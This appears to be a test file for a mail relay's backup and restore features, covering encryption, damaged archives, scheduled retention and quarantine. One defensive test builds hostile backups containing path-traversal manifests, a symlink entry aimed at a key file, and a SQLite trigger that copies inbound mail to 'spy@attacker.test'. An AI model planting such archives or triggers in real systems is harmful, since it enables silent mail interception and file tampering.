// Backup and restore with real parts: a relay under load with its internal server down, a snapshot taken meanwhile
// (through a second SQLite connection, as the CLI does), restored into a fresh data directory, and a new relay on
// it delivering every message that was queued at the snapshot. Encryption, a wrong passphrase, a damaged file,
// the CLI against a running serve, and scheduled backups with retention.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, createReadStream, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { Sink, reservePort } from '../helpers/sink.ts';
import { startRelay } from '../helpers/relay.ts';
import { tempDir } from '../helpers/temp-dir.ts';
import { message, send } from '../helpers/smtp.ts';
import { ServeProcess, runCli } from '../helpers/cli.ts';
import { createBackup, restoreBackup, BackupError } from '../../src-relay/backup/backup.ts';
import { SCHEDULED_NAME } from '../../src-relay/backup/schedule.ts';
import { ByteReader, TarWriter, readTar, tarHeader } from '../../src-relay/backup/archive.ts';
import { loadConfig } from '../../src-relay/config/load.ts';
import { UserLinks } from '../../src-relay/quarantine/user-links.ts';

const TEST_TIMEOUT_MS = 240_000;
const dirs: string[] = [];
const serves: ServeProcess[] = [];
after(async () => {
  for (const serve of serves) if (serve.running) await serve.stop('SIGKILL');
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function world(): string {
  const dir = tempDir('moat-backup-');
  dirs.push(dir);
  return dir;
}

async function until(what: string, condition: () => boolean | Promise<boolean>, timeoutMs = 60_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting until ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const subjectOf = (raw: Buffer | string) => /^Subject: (.*)$/m.exec(raw.toString())?.[1] ?? '';

/** Queued message ids and their subjects, read from a data directory's database. */
function queuedSubjects(dataDir: string): Map<string, string> {
  const db = new Database(join(dataDir, 'moat.db'), { readonly: true });
  try {
    const rows = db.prepare(`SELECT id, subject FROM messages WHERE status = 'queued' AND kind = 'mail'`).all() as { id: string; subject: string }[];
    return new Map(rows.map((row) => [row.id, row.subject]));
  } finally {
    db.close();
  }
}

test('a backup taken under load restores into a new data dir, and the new relay delivers every message queued at the snapshot', { timeout: TEST_TIMEOUT_MS }, async () => {
  const downPort = await reservePort();
  const dataDir = join(world(), 'old');
  mkdirSync(dataDir);
  const relay = await startRelay(downPort, {}, { dataDir });
  const before: string[] = [];
  let loading = true;
  let sentDuring = 0;
  try {
    for (let i = 0; i < 25; i++) {
      await send(relay.port, 'alice@sender.test', ['bob@example.test', 'carol@example.test'], message(`before ${i}`));
      before.push(`before ${i}`);
    }
    await until('the first attempts are deferred', () => relay.relay.routeStates().some((state) => state.route === 'internal' && state.state === 'down'));
    // the load goes on while the snapshot is taken: new mail, and deferrals being written
    const load = (async () => {
      while (loading) {
        await send(relay.port, 'alice@sender.test', ['bob@example.test'], message(`during ${sentDuring}`, 'x'.repeat(2000)));
        sentDuring++;
      }
    })();
    await until('the load is under way', () => sentDuring >= 3);
    const file = join(world(), 'relay.moat');
    const summary = await createBackup({ dataDir, file, config: relay.relay.config });
    loading = false;
    await load;
    assert.ok(summary.messages >= 25, `${summary.messages} messages in the snapshot`);
    assert.equal(summary.encrypted, false);
    assert.ok(sentDuring > 3, 'mail kept arriving during the backup');
    assert.equal(readdirSync(dataDir).filter((name) => name.startsWith('.backup-staging-')).length, 0, 'no staging left behind');

    const restored = join(world(), 'new');
    // a disaster recovery: the old relay is gone, so the queue is left due
    const result = await restoreBackup({ file, dataDir: restored, deliverQueue: true });
    assert.equal(result.queueHeld, false);
    assert.equal(result.messages, summary.messages);
    assert.deepEqual(result.missing, []);
    const snapshot = queuedSubjects(restored);
    assert.equal(snapshot.size, summary.messages);
    for (const subject of before) assert.ok([...snapshot.values()].includes(subject), `${subject} was acknowledged before the backup began, so it is in it`);
    assert.ok(existsSync(join(restored, 'tls', 'cert.pem')) && existsSync(join(restored, 'tls', 'key.pem')), 'the TLS pair came along');
    assert.ok(loadConfig(join(restored, 'moat.json')).ok, 'the restored configuration is valid');

    const sink = await Sink.start();
    const second = await startRelay(sink.port, {}, { dataDir: restored });
    try {
      assert.deepEqual(second.relay.damaged, []);
      const wanted = new Set(snapshot.values());
      await until('every message of the snapshot is delivered', () => {
        const got = new Set(sink.messages.map((m) => subjectOf(m.raw)));
        return [...wanted].every((subject) => got.has(subject));
      });
      for (const [id] of snapshot) await until(`${id} is done`, () => second.relay.queue.store.message(id)?.status === 'done');
      const beforeCopies = sink.messages.filter((m) => subjectOf(m.raw) === 'before 0');
      assert.deepEqual(beforeCopies.flatMap((m) => m.to).sort(), ['bob@example.test', 'carol@example.test'], 'every recipient, once');
    } finally {
      await second.stop();
      await sink.stop();
    }
  } finally {
    loading = false;
    await relay.stop();
  }
});

test('moat backup create while serve runs: encrypted, refused without or with a wrong passphrase or when altered, restored and served', { timeout: TEST_TIMEOUT_MS }, async () => {
  const base = world();
  const dataDir = join(base, 'live');
  const downPort = await reservePort();
  const flags = ['--domain', 'example.test', '--internal', `127.0.0.1:${downPort}`];
  const serve = await ServeProcess.start(['--data-dir', dataDir, '--mx-listen', '127.0.0.1:0', '--admin-listen', '127.0.0.1:0', ...flags]);
  serves.push(serve);
  for (let i = 0; i < 5; i++) await send(serve.port, 'alice@sender.test', ['bob@example.test'], message(`secret ${i}`, 'the body nobody may read\r\n'));
  const passphraseFile = join(base, 'pass');
  writeFileSync(passphraseFile, 'correct horse battery staple\n');
  const file = join(base, 'enc.moat');
  const created = await runCli(['backup', 'create', file, '--passphrase-file', passphraseFile, '--data-dir', dataDir, ...flags]);
  assert.equal(created.code, 0, created.stderr);
  assert.match(created.stdout, /backup written: .*enc\.moat \(\d+ bytes, 5 queued message\(s\), 0 in quarantine, \d+ files, encrypted\)/);
  assert.equal((await serve.stop()).code, 0);
  const bytes = readFileSync(file);
  assert.equal(bytes.subarray(0, 8).toString(), 'MOATENC1');
  assert.ok(!bytes.includes(Buffer.from('the body nobody may read')) && !bytes.includes(Buffer.from('BEGIN PRIVATE KEY')), 'nothing readable inside');
  const db = new Database(join(dataDir, 'moat.db'), { readonly: true });
  assert.match((db.prepare(`SELECT value FROM state WHERE key = 'last_backup'`).get() as { value: string }).value, /enc\.moat/, 'the backup is recorded for the checklist');
  db.close();

  const target = join(base, 'restored');
  const missing = await runCli(['backup', 'restore', file, '--data-dir', target]);
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /encrypted: give its passphrase with --passphrase-file/);
  const wrongFile = join(base, 'wrong');
  writeFileSync(wrongFile, 'Tr0ub4dor&3\n');
  const wrong = await runCli(['backup', 'restore', file, '--data-dir', target, '--passphrase-file', wrongFile]);
  assert.equal(wrong.code, 1);
  assert.match(wrong.stderr, /wrong passphrase for this backup \(WRONG_PASSPHRASE\)/);
  assert.ok(!existsSync(target), 'nothing is left behind by a refused restore');
  const altered = join(base, 'altered.moat');
  copyFileSync(file, altered);
  const copy = readFileSync(altered);
  copy[copy.length - 200]! ^= 0x01;
  writeFileSync(altered, copy);
  const damaged = await runCli(['backup', 'restore', altered, '--data-dir', target, '--passphrase-file', passphraseFile]);
  assert.equal(damaged.code, 1);
  assert.match(damaged.stderr, /damaged or was altered|cannot be read/);
  assert.ok(!existsSync(target));
  const busy = join(base, 'busy');
  mkdirSync(busy);
  writeFileSync(join(busy, 'something'), 'x');
  const notEmpty = await runCli(['backup', 'restore', file, '--data-dir', busy, '--passphrase-file', passphraseFile]);
  assert.equal(notEmpty.code, 1);
  assert.match(notEmpty.stderr, /is not empty/);

  // a restore test on another box while the old relay still runs: the queue comes back held, and says so
  const restored = await runCli(['backup', 'restore', file, '--data-dir', target, '--passphrase-file', passphraseFile]);
  assert.equal(restored.code, 0, restored.stderr);
  assert.match(restored.stdout, /5 queued message\(s\), 0 in quarantine/);
  assert.match(restored.stdout, /HELD: the 5 queued message\(s\) are held; the restored relay sends none of them until you release them/);
  assert.match(restored.stdout, /releasing them here delivers each one twice/);
  assert.ok(restored.stdout.includes(`release them with: moat queue resume --data-dir ${target}\n`), restored.stdout);
  assert.match(restored.stdout, /"Resume delivery" on the admin page's Queue screen/);
  assert.match(restored.stdout, /start it with: moat serve --data-dir /);
  const held = await runCli(['queue', 'list', '--data-dir', target]);
  assert.match(held.stdout, /WHOLE QUEUE HELD/);
  const sink = await Sink.start();
  try {
    const again = await ServeProcess.start(['--data-dir', target, '--mx-listen', '127.0.0.1:0', '--admin-listen', '127.0.0.1:0', '--internal', `127.0.0.1:${sink.port}`]);
    serves.push(again);
    // the sink is on this box: a queue that was not held would be delivered in a few milliseconds
    await new Promise((resolve) => setTimeout(resolve, 1500));
    assert.equal(sink.messages.length, 0, 'nothing delivered while the queue is held');
    const shown = await runCli(['queue', 'show', [...queuedSubjects(target).keys()][0]!, '--data-dir', target]);
    assert.match(shown.stdout, /held by the restore of .*enc\.moat .*the old relay may still deliver these messages/i);
    const resumed = await runCli(['queue', 'resume', '--data-dir', target]);
    assert.equal(resumed.code, 0, resumed.stderr);
    await sink.waitFor(5, 60_000);
    assert.deepEqual(sink.messages.map((m) => subjectOf(m.raw)).sort(), ['secret 0', 'secret 1', 'secret 2', 'secret 3', 'secret 4']);
    assert.equal((await again.stop()).code, 0);
  } finally {
    await sink.stop();
  }

  // a disaster recovery: --deliver-queue leaves it due, and warns about the old relay
  const recovered = join(base, 'recovered');
  const due = await runCli(['backup', 'restore', file, '--data-dir', recovered, '--passphrase-file', passphraseFile, '--deliver-queue']);
  assert.equal(due.code, 0, due.stderr);
  assert.doesNotMatch(due.stdout, /HELD/);
  assert.match(due.stdout, /the 5 queued message\(s\) are due for delivery at once \(--deliver-queue\): if the old relay still runs, stop it for good first, or they are delivered twice/);
  assert.doesNotMatch((await runCli(['queue', 'list', '--data-dir', recovered])).stdout, /HELD/);
  const misplaced = await runCli(['backup', 'create', join(base, 'x.moat'), '--data-dir', dataDir, '--deliver-queue', ...flags]);
  assert.equal(misplaced.code, 2);
  assert.match(misplaced.stderr, /--deliver-queue is for backup restore/);
});

test('an unencrypted backup is a plain tar holding the database, the config, the keys and the spool files; other files are refused', { timeout: TEST_TIMEOUT_MS }, async (t) => {
  const downPort = await reservePort();
  const dataDir = join(world(), 'd');
  mkdirSync(dataDir);
  writeFileSync(join(dataDir, 'moat.json'), JSON.stringify({ domains: ['example.test'] }));
  const relay = await startRelay(downPort, {}, { dataDir });
  const file = join(world(), 'plain.moat');
  try {
    const info = await send(relay.port, 'alice@sender.test', ['bob@example.test'], message('plain'));
    const id = /queued as ([0-9A-Z]{22})/.exec(info.response)![1]!;
    await createBackup({ dataDir, file, config: relay.relay.config });
    if (spawnSync('tar', ['--version']).status === 0) {
      const listing = spawnSync('tar', ['-tf', file], { encoding: 'utf8' }).stdout.trim().split('\n');
      assert.deepEqual(listing.slice(0, 4), ['moat-backup.json', 'moat.db', 'moat.json', 'effective-config.json']);
      assert.ok(listing.includes(`spool/msg/${id}`));
      assert.ok(listing.includes('tls/key.pem'));
      assert.equal(listing.at(-1), 'moat-backup.sha256');
    } else t.diagnostic('no tar here: listing not checked');
  } finally {
    await relay.stop();
  }
  const notBackup = join(world(), 'x.moat');
  writeFileSync(notBackup, 'hello, this is not a backup at all'.repeat(40));
  await assert.rejects(restoreBackup({ file: notBackup, dataDir: join(world(), 'r1') }), (error: unknown) => error instanceof BackupError && /not a Moat backup|checksum/.test(error.message));
  const truncated = join(world(), 't.moat');
  writeFileSync(truncated, readFileSync(file).subarray(0, 40_000));
  await assert.rejects(restoreBackup({ file: truncated, dataDir: join(world(), 'r2') }), (error: unknown) => error instanceof BackupError && error.code === 'DAMAGED');
});

test('scheduled backups go to the folder on time and only the newest `keep` are kept; other files there are left alone', { timeout: TEST_TIMEOUT_MS }, async () => {
  const sink = await Sink.start();
  const folder = join(world(), 'backups');
  mkdirSync(folder);
  writeFileSync(join(folder, 'notes.txt'), 'mine');
  // 0.0004 h = 1.44 s between backups
  const relay = await startRelay(sink.port, { backup: { intervalHours: 0.0004, keep: 2, folder } });
  try {
    const times = new Set<string>();
    await until('three scheduled backups', () => {
      const value = relay.relay.queue.store.getState('last_backup');
      if (value) times.add(JSON.parse(value).at);
      return times.size >= 3;
    });
    const names = readdirSync(folder).sort();
    assert.ok(names.includes('notes.txt'));
    const backups = names.filter((name) => SCHEDULED_NAME.test(name));
    assert.ok(backups.length >= 1 && backups.length <= 2, `kept ${backups.join(', ')}`);
    // each scheduled backup looks at the checklist's backup item again at once
    await until('the checklist item run by the backup', () => relay.relay.monitor.checklist.latestOf('backup-age')?.status === 'ok', 5_000);
  } finally {
    await relay.stop();
    await sink.stop();
  }
});

/** A backup's entries re-packed as they are, but for the manifest (changed by `manifest`) and an entry's tar type. */
async function repack(file: string, out: string, change: { manifest?: (manifest: Record<string, any>) => void; linkInsteadOf?: { name: string; target: string }; database?: (db: Database.Database) => void }): Promise<void> {
  const entries: [string, Buffer][] = [];
  for await (const entry of readTar(new ByteReader(createReadStream(file)))) {
    const parts: Buffer[] = [];
    for await (const chunk of entry.body) parts.push(Buffer.from(chunk));
    entries.push([entry.name, Buffer.concat(parts)]);
  }
  const manifest = JSON.parse(entries[0]![1].toString('utf8'));
  change.manifest?.(manifest);
  if (change.database) {
    const at = entries.findIndex(([name]) => name === 'moat.db');
    const path = `${out}.db`;
    writeFileSync(path, entries[at]![1]);
    const db = new Database(path);
    change.database(db);
    db.close();
    entries[at] = ['moat.db', readFileSync(path)];
    rmSync(path);
  }
  entries[0] = [entries[0]![0], Buffer.from(JSON.stringify(manifest))];
  const sums = entries.filter(([name]) => name !== 'moat-backup.sha256').map(([name, data]) => `${createHash('sha256').update(data).digest('hex')}  ${name}`);
  const chunks: Buffer[] = [];
  const tar = new TarWriter(async (chunk) => void chunks.push(Buffer.from(chunk)));
  for (const [name, data] of entries) {
    if (name === 'moat-backup.sha256') continue;
    if (change.linkInsteadOf?.name === name) {
      // a symbolic link entry: a ustar header of type '2' pointing at the target, no body
      const header = tarHeader(name, 0, Date.now());
      header[156] = '2'.charCodeAt(0);
      header.write(change.linkInsteadOf.target, 157, 'latin1');
      header.fill(0x20, 148, 156);
      let sum = 0;
      for (const byte of header) sum += byte;
      header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 8, 'ascii');
      chunks.push(header);
      continue;
    }
    await tar.add(name, data.length, data);
  }
  const list = Buffer.from(`${sums.join('\n')}\n`);
  await tar.add('moat-backup.sha256', list.length, list);
  await tar.finish();
  writeFileSync(out, Buffer.concat(chunks));
}

test('moat backup restore refuses a real backup with a crafted manifest, a link entry or a database schema of its own (a trigger): the target and a file beside it stay as they were', { timeout: TEST_TIMEOUT_MS }, async () => {
  const downPort = await reservePort();
  const base = world();
  const dataDir = join(base, 'source');
  mkdirSync(dataDir);
  const relay = await startRelay(downPort, {}, { dataDir });
  const file = join(base, 'real.moat');
  try {
    await send(relay.port, 'alice@sender.test', ['bob@example.test'], message('kept'));
    await createBackup({ dataDir, file, config: relay.relay.config });
  } finally {
    await relay.stop();
  }
  const sentinel = join(base, 'sentinel.pem');
  const sentinelBytes = Buffer.from('-----BEGIN PRIVATE KEY-----\nnot yours\n-----END PRIVATE KEY-----\n');
  writeFileSync(sentinel, sentinelBytes);
  const target = join(base, 'target');
  mkdirSync(target);
  const crafted: [string, Parameters<typeof repack>[2], RegExp][] = [
    ['the manifest names ../sentinel.pem', { manifest: (m) => (m.external = [{ name: '../sentinel.pem', original: '/etc/ssl/x.pem', setting: 'mx.tls.cert' }]) }, /names "\.\.\/sentinel\.pem" for mx\.tls\.cert/],
    ['the manifest names the sentinel by its absolute path', { manifest: (m) => (m.external = [{ name: sentinel, original: '/etc/ssl/x.pem', setting: 'mx.tls.key' }]) }, /a backup keeps it only as external\/mx-tls-key\.pem/],
    ['the manifest names a setting no backup keeps', { manifest: (m) => (m.external = [{ name: 'external/mx-tls-cert.pem', original: '/x', setting: 'admin.password' }]) }, /no setting a backup keeps/],
    ['tls/cert.pem is a symbolic link to the sentinel', { linkInsteadOf: { name: 'tls/cert.pem', target: sentinel } }, /"tls\/cert\.pem" is a symbolic link, not a plain file/],
    // a trigger runs inside the relay that restores it: this one would copy every inbound message to an outsider
    [
      'the database has a trigger of its own',
      { database: (db) => db.exec(`CREATE TRIGGER spy AFTER INSERT ON recipients WHEN NEW.route = 'internal' BEGIN INSERT INTO recipients (message_id, address, route, next_attempt_at, updated_at) VALUES (NEW.message_id, 'spy@attacker.test', 'outbound', NEW.next_attempt_at, NEW.updated_at); END`) },
      /its database is not as Moat makes it: trigger spy is not Moat's/,
    ],
    ['the database has a view of its own', { database: (db) => db.exec('CREATE VIEW v AS SELECT 1') }, /view v is not Moat's/],
    ['one of Moat\'s triggers was changed', { database: (db) => db.exec('DROP TRIGGER recipients_queue_update; CREATE TRIGGER recipients_queue_update AFTER UPDATE ON recipients BEGIN SELECT 1; END') }, /trigger recipients_queue_update is not as Moat made it/],
    ['one of Moat\'s indexes is gone', { database: (db) => db.exec('DROP INDEX messages_received') }, /index messages_received is missing/],
    // ANALYZE's name on a table of another shape (a foreign key pinning rows the relay could then never delete)
    [
      'a table posing as ANALYZE\'s sqlite_stat1',
      {
        database: (db) => {
          db.unsafeMode(true);
          db.exec('CREATE TABLE xstat1 (tbl, idx, stat, pin TEXT REFERENCES messages(id))');
          db.pragma('writable_schema = ON');
          db.exec(`UPDATE sqlite_master SET name = 'sqlite_stat1', tbl_name = 'sqlite_stat1', sql = replace(sql, 'xstat1', 'sqlite_stat1') WHERE name = 'xstat1'`);
          db.pragma('writable_schema = OFF');
        },
      },
      /table sqlite_stat1 is not as Moat made it/,
    ],
  ];
  for (const [what, change, reason] of crafted) {
    const craftedFile = join(base, 'crafted.moat');
    await repack(file, craftedFile, change);
    const result = await runCli(['backup', 'restore', craftedFile, '--data-dir', target]);
    assert.equal(result.code, 1, `${what}: ${result.stdout}${result.stderr}`);
    assert.match(result.stderr, /^moat: refusing this backup: /, what);
    assert.match(result.stderr, reason, what);
    assert.match(result.stderr, /\(UNSAFE\)/, what);
    assert.deepEqual(readdirSync(target), [], `${what}: the target is untouched`);
    assert.deepEqual(readFileSync(sentinel), sentinelBytes, `${what}: the file beside the target is untouched`);
    assert.deepEqual(readdirSync(base).sort(), ['crafted.moat', 'real.moat', 'sentinel.pem', 'source', 'target'], `${what}: nothing appeared beside it`);
  }
  // the same repacking without a trick restores: the refusals above are the tricks, nothing else. A restore
  // killed midway left its staging in the target: this one clears it and goes on (it refused "not empty" before)
  const deadPid = spawnSync(process.execPath, ['-e', '']).pid;
  const killedRestore = join(target, `.restore-staging-${deadPid}-0badf00d`);
  mkdirSync(join(killedRestore, 'spool'), { recursive: true });
  writeFileSync(join(killedRestore, 'moat.db'), 'half a restore');
  // ANALYZE's statistics are data, not someone else's schema
  await repack(file, join(base, 'crafted.moat'), { database: (db) => db.exec('ANALYZE') });
  const restored = await runCli(['backup', 'restore', join(base, 'crafted.moat'), '--data-dir', target]);
  assert.equal(restored.code, 0, restored.stderr);
  assert.equal(existsSync(killedRestore), false);
  assert.ok(existsSync(join(target, 'moat.db')) && existsSync(join(target, 'tls', 'cert.pem')));
  assert.deepEqual(readFileSync(sentinel), sentinelBytes);
});

test('staging left by a killed backup and a killed restore is gone after the next start; a live one and other files stay', { timeout: TEST_TIMEOUT_MS }, async () => {
  const sink = await Sink.start();
  const dataDir = join(world(), 'd');
  mkdirSync(dataDir);
  // a process that has ended: its id is what a killed `moat backup create` leaves in its names
  const deadPid = spawnSync(process.execPath, ['-e', '']).pid;
  const stage = (name: string) => {
    const path = join(dataDir, name);
    mkdirSync(join(path, 'spool'), { recursive: true, mode: 0o700 });
    writeFileSync(join(path, 'moat.db'), 'half a snapshot');
    writeFileSync(join(path, 'spool', '0123456789ABCDEF012345'), 'a linked spool file');
    return path;
  };
  const killedBackup = stage(`.backup-staging-${deadPid}-0badc0de`);
  const killedRestore = stage(`.restore-staging-${deadPid}-0badf00d`);
  const running = stage(`.backup-staging-${process.pid}-5a5a5a5a`);
  mkdirSync(join(dataDir, 'backups'));
  const halfArchive = join(dataDir, 'backups', `.moat-backup-20261128T100000Z.moat.${deadPid}.abcdef.tmp`);
  writeFileSync(halfArchive, 'half an archive');
  writeFileSync(join(dataDir, 'backups', 'notes.txt'), 'mine');
  writeFileSync(join(dataDir, '.backup-staging-notes'), 'mine too');
  const relay = await startRelay(sink.port, {}, { dataDir });
  try {
    assert.equal(existsSync(killedBackup), false, 'the killed backup\'s staging is gone');
    assert.equal(existsSync(killedRestore), false, 'the killed restore\'s staging is gone');
    assert.equal(existsSync(halfArchive), false, 'the half-written archive is gone');
    assert.ok(existsSync(join(running, 'moat.db')), 'a backup still running (this process) keeps its staging');
    assert.equal(readFileSync(join(dataDir, 'backups', 'notes.txt'), 'utf8'), 'mine');
    assert.equal(readFileSync(join(dataDir, '.backup-staging-notes'), 'utf8'), 'mine too');
  } finally {
    await relay.stop();
    await sink.stop();
  }
});

test('a quarantined message is in the backup and comes back in quarantine, counted apart from the queue and not delivered; the old box\'s user-page links say they are old', { timeout: TEST_TIMEOUT_MS }, async () => {
  const sink = await Sink.start();
  const dataDir = join(world(), 'old');
  mkdirSync(dataDir);
  // a message without a Date scores 11 here: quarantined (10), not refused (15)
  const settings = { filters: { enabled: true, rules: { MISSING_DATE: 11 } }, quarantine: { userPage: { listen: '127.0.0.1:0' } } };
  const relay = await startRelay(sink.port, settings, { dataDir });
  let restoredRelay: Awaited<ReturnType<typeof startRelay>> | undefined;
  try {
    const info = await send(relay.port, 'alice@sender.test', ['bob@example.test'], message('kept aside', 'the body\r\n').replace(/^Date: .*\r\n/m, ''));
    const id = /queued as (\S+)/.exec(info.response)![1]!;
    assert.equal(relay.relay.queue.store.message(id)!.status, 'quarantined');
    // a digest's link, signed with the old box's key (user-link.key is not in backups)
    const oldLink = (await UserLinks.open(dataDir)).sign({ recipient: 'bob@example.test', messageId: id, expiresAt: Date.now() + 86400_000 });
    const file = join(world(), 'q.moat');
    const created = await createBackup({ dataDir, file, config: relay.relay.config });
    assert.deepEqual([created.messages, created.quarantined], [0, 1]);
    const target = join(world(), 'new');
    const restored = await restoreBackup({ file, dataDir: target });
    assert.deepEqual([restored.messages, restored.quarantined, restored.missing], [0, 1, []]);
    await relay.stop();
    restoredRelay = await startRelay(sink.port, settings, { dataDir: target });
    assert.equal(restoredRelay.relay.queue.store.message(id)!.status, 'quarantined');
    const page = `http://${restoredRelay.relay.userPage!.address}/q/`;
    const refused = await fetch(`${page}${oldLink}`);
    assert.equal(refused.status, 403);
    const text = await refused.text();
    assert.match(text, /This link is from an older quarantine e-mail and no longer works: the mail system was moved or renewed after that e-mail was sent\. Use the links in your newest quarantine e-mail\./);
    assert.doesNotMatch(text, /changed|cut short/, 'not sent looking for a typo in the link');
    const newLink = (await UserLinks.open(target)).sign({ recipient: 'bob@example.test', messageId: id, expiresAt: Date.now() + 86400_000 });
    assert.equal((await fetch(`${page}${newLink}`)).status, 200, "the restored box's own links work");
    assert.deepEqual(restoredRelay.relay.damaged, []);
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.equal(sink.messages.length, 0, 'nothing delivered from the quarantine');
  } finally {
    await restoredRelay?.stop();
    await relay.stop();
    await sink.stop();
  }
});
